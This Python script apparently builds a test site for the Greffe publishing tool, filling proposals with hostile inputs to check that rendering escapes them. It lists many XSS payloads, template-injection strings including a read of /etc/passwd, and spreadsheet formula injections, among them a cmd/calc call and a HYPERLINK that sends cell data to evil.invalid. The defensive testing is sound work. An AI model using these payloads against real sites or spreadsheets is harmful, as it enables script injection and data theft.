#!/usr/bin/env python3
"""Makes a Greffe site whose participants are attackers.

    make.py PAYLOADS ROOT

Every line of every list in PAYLOADS (and ours below) becomes a proposal, with the line as its title, its author's name
and its body, and as the target of links, images and autolinks in it; and an argument, which stands as a fragment in
another page. ROOT receives greffe.yaml, content/ and `expected.json`, by which the tests know what each one wrote.
Python's standard library alone; the YAML is written as JSON strings, which are YAML too.
"""

import json
import re
import shutil
import sys
from pathlib import Path
from urllib.parse import quote

# Each of these says so in the page if it runs.
OURS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "</title><script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "--><script>window.__pwned=1</script>",
    "]]><script>window.__pwned=1</script>",
    "\"><script>window.__pwned=1</script>",
    "'><script>window.__pwned=1</script>",
    "\" onmouseover=window.__pwned=1 x=\"",
    "' autofocus onfocus=window.__pwned=1 x='",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "{{ 7*7 }} {% for x in y %} {{ __tera_context }}",
    "{% include \"/etc/passwd\" %} {# comment #}",
    "${window.__pwned=1}",
    "javascript:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "&#106;avascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "vbscript:window.__pwned=1",
    "//evil.invalid/x.js",
    "https://evil.invalid/x.png",
    "[lien](javascript:window.__pwned=1)",
    "[lien](<javascript:window.__pwned=1>)",
    "[lien](&#x6A;avascript:window.__pwned=1)",
    "![image](https://evil.invalid/x.png)",
    "![image](x\" onerror=\"window.__pwned=1)",
    "[x]: javascript:window.__pwned=1",
    "<javascript:window.__pwned=1>",
    "# titre {#main onclick=window.__pwned=1}",
    "[^1]: <script>window.__pwned=1</script>",
    "<a href=\"javascript:window.__pwned=1\">ici</a>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.invalid/\">",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>Envoyer</button></form>",
    "<style>body{background:url(https://evil.invalid/)}</style>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?xml?>", "\u2028window.__pwned=1", "\u202eesrever\u202c", "</ul></main></body></html>",
    "window.greffe=1;</script>", "__proto__", "constructor", "toString", "hasOwnProperty",
    "*/window.__pwned=1/*", "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "[" * 3000, ">" * 3000, "*" * 3000, "<" * 2000, "- " * 1500, "`" * 1500, "_a" * 1500, "mot" * 400,
]

# A spreadsheet runs a cell that begins so.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"ici\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=IMPORTXML(\"https://evil.invalid/\",\"//a\")", "%0A=1+1",
    "\"=1+1\"", "'=1+1", ";=1+1", ",=1+1",
]


def payloads(folder: Path):
    """Every line of the lists, in order, once; what is blank to the eye cannot be a title."""
    lines = [*OURS, *FORMULAS]
    for file in sorted(folder.iterdir()):
        if file.suffix == ".json":
            lines += [line for line in json.loads(file.read_text("utf-8")) if isinstance(line, str)]
        else:
            lines += file.read_bytes().decode("utf-8", "replace").splitlines()
    seen = set()
    for line in lines:
        if line not in seen and any(c.isprintable() and not c.isspace() for c in line):
            seen.add(line)
            yield line


def scalar(words: str) -> str:
    """A double-quoted YAML scalar. Characters that YAML wants escaped are; the others stand as they are."""
    out = json.dumps(words, ensure_ascii=False)

    def escape(match):
        code = ord(match[0])
        return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"

    return re.sub("[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff\ud800-\udfff]", escape, out)


def fence(words: str) -> str:
    """The words in a code block whose fence they do not contain."""
    longest = max((len(run) for run in re.findall("`+", words)), default=0)
    bar = "`" * max(3, longest + 1)
    # A line break inside the words would end no fence, but a lone carriage return is a line break to Markdown too.
    return f"{bar}\n{words}\n{bar}"


def usable(words: str) -> bool:
    """NUL and lone surrogates are no text: a diagnostic refuses them (tested on the Rust side), so leave them out."""
    return "\0" not in words and not any(0xD800 <= ord(c) <= 0xDFFF for c in words)


def main(source: Path, root: Path):
    shutil.rmtree(root, ignore_errors=True)
    folder = root / "content" / "attaque"
    (folder / "contributions").mkdir(parents=True)
    (root / "greffe.yaml").write_text(
        "title: Essai d’attaque & <b>de défense</b>\n"
        "description: Un site dont les participants sont des attaquants.\n"
        "languages: [fr]\nlicence: etalab-2.0\nbase_url: https://archives.example.org/archives/essai/\n", "utf-8")
    (root / "content" / "index.md").write_text("---\ntitle: Essai d’attaque\n---\nUn site d’essai, rempli de pièges.\n", "utf-8")
    (folder / "index.md").write_text("---\ntitle: Attaque\n---\nUne consultation remplie de pièges.\n", "utf-8")
    (folder / "consultation.yaml").write_text(
        "title: Attaque\nsummary: Ce que des attaquants écrivent.\n"
        "organiser:\n  name: Bureau d’essai\nauthors: name\n"
        "phases:\n  - kind: contribution\n    start: 2026-01-05\n    end: 2026-02-05\n"
        "participation: {channel: file, address: essai@example.org}\n", "utf-8")

    lines = [line for line in payloads(source) if usable(line)]
    proposals, arguments, expected = [], [], {"proposals": [], "arguments": [], "formulas": FORMULAS}
    for number, line in enumerate(lines, 1):
        id = f"p{number:04}"
        body = "\n\n".join([
            fence(line),
            line,
            f"[lien]({line})",
            f"[lien](<{line}>)",
            f"![image]({line} \"titre\")",
            f"<{line}>",
            f"Voir [la note][{id}].",
            f"[{id}]: {line}",
            f"| a | b |\n|---|---|\n| {line} | {line} |",
            f"> {line}",
            f"- {line}",
        ])
        fields = {"id": id, "kind": "proposal", "title": line, "date": "2026-01-10T10:00:00Z", "place": line, "body": body}
        item = [f"{key}: {scalar(value)}" for key, value in fields.items()]
        item.append(f"themes: [{scalar(line)}]")
        item.append(f"link: {scalar('https://example.org/?' + quote(line[:200], safe=''))}")
        item.append(f"author:\n    name: {scalar(line)}\n    organisation: {scalar(line)}")
        item.append(f"appendices:\n    - title: {scalar(line)}\n      body: {scalar(line)}")
        proposals.append("- " + "\n  ".join(item))
        expected["proposals"].append({"id": id, "title": line, "author": line, "body": line})

        # A hundred arguments a page, on the first proposals.
        argument = {"id": f"a{number:04}", "kind": "argument", "parent": f"p{1 + number // 100:04}",
                    "position": ["for", "against"][number % 2], "title": line, "date": "2026-01-11", "body": f"{fence(line)}\n\n{line}"}
        item = [f"{key}: {scalar(value)}" for key, value in argument.items()]
        item.append(f"author:\n    name: {scalar(line)}")
        arguments.append("- " + "\n  ".join(item))
        expected["arguments"].append({"id": argument["id"], "body": line})

    (folder / "contributions" / "propositions.yaml").write_text("\n".join(proposals) + "\n", "utf-8", newline="\n")
    (folder / "contributions" / "arguments.yaml").write_text("\n".join(arguments) + "\n", "utf-8", newline="\n")
    (root / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1), "utf-8")
    print(f"{len(lines)} payloads: as many proposals, as many arguments")


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(Path(sys.argv[1]), Path(sys.argv[2]))
